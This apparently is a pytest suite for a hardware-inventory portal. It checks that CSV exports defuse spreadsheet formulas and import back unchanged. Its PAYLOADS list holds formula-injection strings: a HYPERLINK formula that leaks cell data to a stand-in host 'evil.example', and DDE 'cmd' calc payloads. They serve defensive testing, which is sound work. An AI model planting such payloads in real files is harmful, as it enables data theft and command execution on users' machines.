"""Every CSV the portal writes defuses spreadsheet formulas, and imports back unchanged."""

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core import csv_export
from inventory.models import GPU, Node
from tests.factories import GPUFactory, NodeFactory

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTAB=1+1",
    "\r=1+1",
    "\uff1dHYPERLINK(\"x\")",
    "\uff0bcmd",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    "'=already-quoted",
    "''@twice",
]
FORMULA = re.compile("^[=+\\-@\t\r\uff1d\uff0b\uff0d\uff20]")


def _is_safe(cell: str) -> bool:
    return not FORMULA.match(cell) or csv_export._NUMBER.match(cell) is not None


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_written_behind_an_apostrophe(payload):
    out = io.StringIO()
    csv_export.writer(out).writerow(["ok", payload, 12, "-3", "+1.5"])

    cells = next(csv.reader(io.StringIO(out.getvalue())))

    assert cells[0] == "ok" and cells[2:] == ["12", "-3", "+1.5"]
    assert cells[1].startswith("'") and _is_safe(cells[1])
    assert csv_export.unescape_cell(cells[1]) == payload


@given(st.text())
def test_unescaping_an_escaped_cell_gives_it_back(value):
    escaped = csv_export.escape_cell(value)

    assert _is_safe(escaped)
    assert csv_export.unescape_cell(escaped) == value


def test_no_module_writes_csv_but_through_core_csv_export():
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(
        r"\bcsv\.(writer|DictWriter)\b|from csv import[^\n]*\b(writer|DictWriter)\b"
    )
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        # The project's own code: not a virtualenv (.venv, .venv-3.12 …) or other dot-folder.
        if not path.relative_to(root).parts[0].startswith(".")
        and not {"node_modules", "tests"} & set(path.relative_to(root).parts)
        and path.relative_to(root) != Path("core/csv_export.py")
        and writers.search(path.read_text())
    ]
    assert offenders == []


@pytest.fixture
def hostile_inventory(db):
    node = NodeFactory(hostname="gpu-a", k8s_name="gpu-a", serial=PAYLOADS[0])
    GPUFactory(node=node, index=0, serial=PAYLOADS[1], nvlink_domain=PAYLOADS[3])
    GPUFactory(node=node, index=1, serial=PAYLOADS[6], nvlink_domain=PAYLOADS[10])
    return node


def _exports(login, api_client, admin, objects: str) -> list[str]:
    api_client.force_login(admin)
    page = login(admin).get(f"/fleet/export/?format=csv&objects={objects}")
    api = api_client.get(f"/api/v1/inventory/export/?as=csv&objects={objects}")
    assert page.status_code == api.status_code == 200
    return [page.content.decode(), api.content.decode()]


@pytest.mark.parametrize("objects", ["nodes", "gpus"])
def test_both_inventory_exports_defuse_formulas(
    login, api_client, platform_admin, hostile_inventory, objects
):
    for text in _exports(login, api_client, platform_admin, objects):
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert any(cell.startswith("'") for cell in cells)
        assert [cell for cell in cells if not _is_safe(cell)] == []


@pytest.mark.parametrize("objects", ["nodes", "gpus"])
def test_an_export_imports_back_unchanged(
    login, api_client, platform_admin, hostile_inventory, objects
):
    page_export, _ = _exports(login, api_client, platform_admin, objects)
    before = {
        "nodes": list(Node.objects.values_list("serial", flat=True)),
        "gpus": list(GPU.objects.order_by("index").values_list("serial", "nvlink_domain")),
    }

    response = api_client.post(
        "/api/v1/inventory/import/",
        {"format": "csv", "objects": objects, "data": page_export, "dry_run": False},
        format="json",
    )

    assert response.status_code in (200, 201), response.content[:500]
    body = response.json()
    assert body["ok"] and body["summary"]["create"] == body["summary"]["update"] == 0, body
    assert list(Node.objects.values_list("serial", flat=True)) == before["nodes"]
    assert list(
        GPU.objects.order_by("index").values_list("serial", "nvlink_domain")
    ) == before["gpus"]
